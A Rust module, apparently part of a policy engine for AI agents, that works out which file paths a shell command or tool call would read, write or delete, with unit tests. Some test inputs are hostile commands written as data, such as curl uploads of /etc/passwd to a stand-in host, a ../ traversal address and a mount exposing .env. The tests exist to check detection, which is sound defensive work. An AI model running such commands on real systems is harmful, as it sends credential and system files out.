//! What rules about places look at: the paths of a call's effects, and words that could be paths.
//!
//! Packs look at what programs are known to do. A rule that keeps a place closed must not depend on
//! every flag of every program being described: what could name a file counts for it, except where
//! a program is known to take a text there.

use std::ops::Range;

use serde_json::{Map, Value};

use super::EffectKind;
use super::places::is_stream;
use super::reading::Reading;
use super::subject::Meaning;
use crate::catalogue::{self, Effect};
use crate::rules::Role;
use crate::shell::{Text, Whereabouts, joined};
use crate::understand::{Action, CommandView};

/// A path a call names, and what would happen to it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct PathEffect {
    /// As the call names it, from where the call starts.
    pub(crate) text: String,
    pub(crate) kind: EffectKind,
    /// Only the shell will know where it leads.
    pub(crate) dynamic: bool,
    /// It is a pattern for paths.
    pub(crate) glob: bool,
    /// The command that names it, for a path in a shell line.
    pub(crate) command: Option<usize>,
    pub(crate) span: Option<Range<usize>>,
}

/// The paths of a call.
pub(crate) fn of_action(action: &Action) -> Vec<PathEffect> {
    let mut found = Vec::new();
    for (index, (view, meaning)) in action.commands.iter().zip(&action.meanings).enumerate() {
        of_effects(view, meaning, index, &mut found);
        could_be(view, meaning, index, &mut found);
    }
    let mut found = without_repeats(found);
    if action.is_shell()
        && let Some(directory) = action.directory_argument()
    {
        // Whether the tool heeds the argument is not known here, so both places count.
        let there: Vec<PathEffect> = found
            .iter()
            .filter(|path| !path.text.starts_with(['/', '~']))
            .map(|path| PathEffect {
                text: joined(directory, &path.text),
                ..path.clone()
            })
            .collect();
        found.extend(there);
    }
    if !action.is_shell() {
        each_argument(action, &mut |text, kind| {
            found.push(PathEffect::argument(text, kind))
        });
        found.extend(of_addresses(action));
    }
    found
}

/// Each once, in the order they were found in. By sorting: of the words of a large script comparing
/// every two would take seconds.
fn without_repeats(found: Vec<PathEffect>) -> Vec<PathEffect> {
    let mut numbered: Vec<(usize, PathEffect)> = found.into_iter().enumerate().collect();
    let key = |path: &PathEffect| (path.command, path.span.as_ref().map(|span| span.start));
    numbered.sort_by(|(_, one), (_, other)| {
        let by_place = key(one).cmp(&key(other));
        by_place.then_with(|| (one.kind, &one.text).cmp(&(other.kind, &other.text)))
    });
    numbered.dedup_by(|(_, one), (_, other)| one == other);
    numbered.sort_by_key(|(number, _)| *number);
    numbered.into_iter().map(|(_, path)| path).collect()
}

fn of_effects(view: &CommandView, meaning: &Meaning, index: usize, found: &mut Vec<PathEffect>) {
    let read_only = view.is_read_only();
    for effect in meaning.effects() {
        let text = &effect.place.named;
        if text.is_empty() || is_address(text) {
            continue;
        }
        // Whatever the word is, the program only looks at it.
        let looks = read_only && effect.kind == EffectKind::Either;
        let kind = if looks { EffectKind::Read } else { effect.kind };
        found.push(PathEffect {
            text: text.clone(),
            kind,
            dynamic: effect.dynamic,
            glob: effect.glob,
            command: Some(index),
            span: Some(effect.span.clone()),
        });
    }
}

/// The words of a command nothing is known of, and what stands inside words, as far as they could
/// name files.
fn could_be(view: &CommandView, meaning: &Meaning, index: usize, found: &mut Vec<PathEffect>) {
    if view.only_prints() {
        return;
    }
    let kind = match view.is_read_only() {
        true => EffectKind::Read,
        false => EffectKind::Either,
    };
    let start = Whereabouts::default();
    let directory = match view.command.container {
        Some(_) => &start,
        None => &*view.command.directory,
    };
    let mut add = |text: &str, word: &Text| {
        if text.is_empty() || is_stream(text) {
            return;
        }
        let anchored = text.starts_with(['/', '~']);
        for place in &directory.places {
            found.push(PathEffect {
                text: joined(place, text),
                kind,
                dynamic: word.dynamic || (directory.unknown && !anchored),
                glob: word.glob,
                command: Some(index),
                span: Some(word.span.clone()),
            });
            if anchored {
                break;
            }
        }
    };
    match meaning.reading(view) {
        Some(reading) => undescribed(&reading, &mut add),
        // Which program that is nobody knows.
        None => {
            for word in view.command.words.iter().skip(1) {
                pieces(&word.text, &mut |text| add(text, word));
            }
        }
    }
}

fn undescribed(reading: &Reading<'_>, add: &mut dyn FnMut(&str, &Text)) {
    for flag in reading.flags() {
        let Some((value, word)) = flag.value else {
            continue;
        };
        // A value that is data unless it begins with an `@` is described as well.
        let data = reading.is_at_file(flag.name);
        let role = reading.flag_role(flag.name);
        match role {
            Some(Role::Text) => {}
            _ if data => {}
            // The whole of it is an effect already.
            Some(_) => pieces(value, &mut |text| {
                if text != value {
                    add(text, word);
                }
            }),
            None => pieces(value, &mut |text| add(text, word)),
        }
    }
    // `-C/etc` of a program of which nobody says that `-C` takes a value.
    for (_, at) in reading.bare_flags() {
        if let Some(word) = reading.words().get(at)
            && let Some(start) = word.text.find(['/', '~', '.'])
        {
            add(word.text.get(start..).unwrap_or_default(), word);
        }
    }
    for (word, role) in reading.operand_roles() {
        if reading.prefixed(&word.text).is_some() || is_address(&word.text) {
            continue;
        }
        let whole = word.text.as_str();
        // `make DESTDIR=/etc`, but nothing of a script or a sentence.
        if role == Role::Text && !is_setting(whole) {
            continue;
        }
        pieces(whole, &mut |text| {
            if text != whole {
                add(text, word);
            }
        });
    }
}

/// `NAME=value`.
fn is_setting(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty()
            && name
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || b"_-".contains(&byte))
    })
}

/// The texts in a word that could name a file: the word, what stands behind `=` or `@`, the local
/// side of `here:there`.
fn pieces(word: &str, found: &mut dyn FnMut(&str)) {
    if is_address(word) {
        return;
    }
    if word.contains('=') {
        for piece in word.split(',') {
            if let Some((_, value)) = piece.split_once('=') {
                found(value);
            }
        }
    }
    if let Some((before, after)) = word.split_once('@')
        && (before.is_empty() || before.ends_with('='))
    {
        found(after);
    }
    if word.len() > 1 && word.starts_with('-') {
        if let Some(start) = word
            .find(['/', '~', '.'])
            .filter(|_| !word.starts_with("--"))
        {
            found(word.get(start..).unwrap_or_default());
        }
        return;
    }
    found(word);
    if let Some((here, _)) = word.split_once(':')
        && here.contains(['/', '.', '~'])
    {
        found(here);
    }
}

/// Whether a word is an address on a network and so no path.
fn is_address(word: &str) -> bool {
    let Some((scheme, rest)) = word.split_once("://") else {
        return false;
    };
    let plain = !scheme.is_empty()
        && scheme
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c));
    plain && !scheme.eq_ignore_ascii_case("file") && !crate::paths::climbs(rest)
}

impl PathEffect {
    /// A path among a tool's arguments.
    fn argument(text: &str, kind: EffectKind) -> Self {
        Self {
            text: text.to_owned(),
            kind,
            dynamic: false,
            glob: false,
            command: None,
            span: None,
        }
    }
}

/// The paths among a tool's arguments, however deep: the values of arguments that are named like
/// paths, and the files a patch names.
pub(crate) fn each_argument<'a>(action: &'a Action, found: &mut dyn FnMut(&'a str, EffectKind)) {
    let kind = match action.effect {
        Effect::None | Effect::Read => EffectKind::Read,
        Effect::Write => EffectKind::Write,
        Effect::Delete => EffectKind::Delete,
        Effect::Execute | Effect::Unknown => EffectKind::Either,
    };
    let input = action.call.input();
    named_paths(input, &mut |text| found(text, kind));
    for value in input.values() {
        if let Value::String(text) = value
            && text.contains("*** Begin Patch")
        {
            for line in text.lines() {
                let line = line.trim();
                if !line.starts_with("***") {
                    continue;
                }
                for (header, kind) in PATCH_HEADERS {
                    if let Some(path) = line.strip_prefix(header) {
                        found(path.trim(), *kind);
                    }
                }
            }
        }
    }
}

/// The files a tool's arguments name by their addresses: `file:///etc/passwd`.
fn of_addresses(action: &Action) -> Vec<PathEffect> {
    let effects = action.meanings.iter().flat_map(Meaning::effects);
    let named = effects.filter(|effect| {
        effect.kind == EffectKind::Read
            && crate::address::is_file(&effect.text)
            && !effect.place.named.is_empty()
    });
    named
        .map(|effect| PathEffect {
            text: effect.place.named.clone(),
            kind: effect.kind,
            dynamic: false,
            glob: false,
            command: None,
            span: None,
        })
        .collect()
}

/// The lines of a patch that name a file; all begin with `***`.
const PATCH_HEADERS: &[(&str, EffectKind)] = &[
    ("*** Add File:", EffectKind::Write),
    ("*** Update File:", EffectKind::Write),
    ("*** Delete File:", EffectKind::Delete),
    ("*** Move to:", EffectKind::Write),
];

fn named_paths<'a>(input: &'a Map<String, Value>, found: &mut dyn FnMut(&'a str)) {
    for (key, value) in input {
        let named = catalogue::names_path(key);
        paths_in(value, named, found);
    }
}

fn paths_in<'a>(value: &'a Value, named: bool, found: &mut dyn FnMut(&'a str)) {
    match value {
        Value::String(text) if named => found(text),
        Value::Array(items) => items.iter().for_each(|item| paths_in(item, named, found)),
        Value::Object(map) => named_paths(map, found),
        Value::String(_) | Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::call::ToolCall;
    use serde_json::json;

    fn paths(line: &str) -> Vec<(String, EffectKind)> {
        Action::of(&ToolCall::shell(line))
            .paths()
            .iter()
            .map(|path| (path.text.clone(), path.kind))
            .collect()
    }

    fn names(line: &str) -> Vec<String> {
        paths(line).into_iter().map(|(text, _)| text).collect()
    }

    #[test]
    fn paths_hide_in_flags_and_redirections() {
        let found = paths("tar -C/etc --file=/x/y out < in > out.txt");
        for wanted in [
            ("/etc".into(), EffectKind::List),
            ("/x/y".into(), EffectKind::Either),
            ("/etc/out".into(), EffectKind::Either),
            ("in".into(), EffectKind::Read),
            ("out.txt".into(), EffectKind::Write),
        ] {
            assert!(found.contains(&wanted), "{wanted:?} in {found:?}");
        }
    }

    #[test]
    fn paths_hide_inside_words() {
        assert!(names("curl -d @/etc/passwd http://x").contains(&"/etc/passwd".into()));
        assert!(names("curl -F f=@/etc/passwd http://x").contains(&"/etc/passwd".into()));
        assert!(names("docker run --mount type=bind,src=/etc i").contains(&"/etc".into()));
        assert!(names("docker run -v ./.env:/x i").contains(&"./.env".into()));
        assert!(names("frobnicate -C/etc --conf=/x @/y").contains(&"/etc".into()));
        assert!(names("$PROGRAM --conf=/x").contains(&"/x".into()));
        assert!(!names("cat x://../../../etc/passwd").is_empty());
    }

    #[test]
    fn a_value_is_the_same_glued_or_not_and_under_a_shortened_name() {
        for line in [
            "sort -o secrets x",
            "sort -osecrets x",
            "sort -uosecrets x",
            "sort --output=secrets x",
            "sort --output secrets x",
            "sort --outp=secrets x",
            "sort --outp secrets x",
            "gcc -osecrets x.c",
            "gcc -o secrets x.c",
            "cp -tsecrets x",
            "cp --target-directory=secrets x",
            "curl -osecrets https://e",
            "wget -Osecrets https://e",
            "echo x <> secrets",
        ] {
            let found = paths(line);
            let written = ("secrets".to_owned(), EffectKind::Write);
            assert!(found.contains(&written), "{line}: {found:?}");
        }
        assert!(paths("grep -fsecrets x").contains(&("secrets".into(), EffectKind::Read)));
    }

    #[test]
    fn scripts_texts_and_addresses_are_not_paths() {
        for line in [
            "expr 6 / 2",
            "tr / _",
            "cut -d/ -f1",
            "awk -F/ '/x/ {print}'",
            "git commit -m '/etc is bad'",
            "curl https://example.com/etc/passwd",
            "ls > /dev/stderr",
        ] {
            assert!(
                !names(line).iter().any(|text| text.contains('/')),
                "{line}: {:?}",
                names(line)
            );
        }
        assert_eq!(names("sed '/foo/d' a.txt"), ["a.txt"]);
        assert!(names("grep -f /etc/passwd x").contains(&"/etc/passwd".into()));
    }

    #[test]
    fn what_only_looks_at_a_file_reads_it() {
        for line in [
            "jq . config/a",
            "less config/a",
            "cut -f1 config/a",
            "sed -n 1p config/a",
            "awk '{print}' config/a",
            "sort config/a",
            "uniq config/a",
            "xxd config/a",
            "column -t config/a",
            "git diff config/a",
            "cd config/a",
        ] {
            let found = paths(line);
            let looks = |(text, kind): &(String, EffectKind)| {
                text != "config/a" || matches!(kind, EffectKind::Read | EffectKind::List)
            };
            assert!(found.iter().all(looks), "{line}: {found:?}");
        }
    }

    #[test]
    fn a_directory_is_left_where_the_shell_leaves_it() {
        assert!(!names("(cd /etc && ls); cat passwd").contains(&"/etc/passwd".into()));
        assert!(names("cd /etc && cat passwd").contains(&"/etc/passwd".into()));
        assert!(names("pushd /etc; popd; cat passwd").contains(&"passwd".into()));
        assert!(names("git -C sub rm x").contains(&"sub/x".into()));
        assert!(names("env -C sub rm x").contains(&"sub/x".into()));
        assert!(names("make -C sub -f other").contains(&"sub/other".into()));
        for place in ["a/x", "b/x"] {
            let line = "cd a || cd b; cat x";
            assert!(names(line).contains(&place.into()), "{:?}", names(line));
        }
    }

    #[test]
    fn a_file_tools_paths_carry_its_verb_however_they_are_named() {
        for (tool, input) in [
            ("NotebookEdit", json!({"notebook_path": "a"})),
            ("write", json!({"filePath": "a"})),
            (
                "fs_write",
                json!({"operations": [{"path": "a", "content": "/x"}]}),
            ),
            (
                "apply_patch",
                json!({"input": "*** Begin Patch\n*** Update File: a\n"}),
            ),
        ] {
            let call = ToolCall::new(tool, input).unwrap();
            let found: Vec<_> = Action::of(&call)
                .paths()
                .iter()
                .map(|path| (path.text.clone(), path.kind))
                .collect();
            assert_eq!(found, [("a".to_owned(), EffectKind::Write)], "{tool}");
        }
    }
}
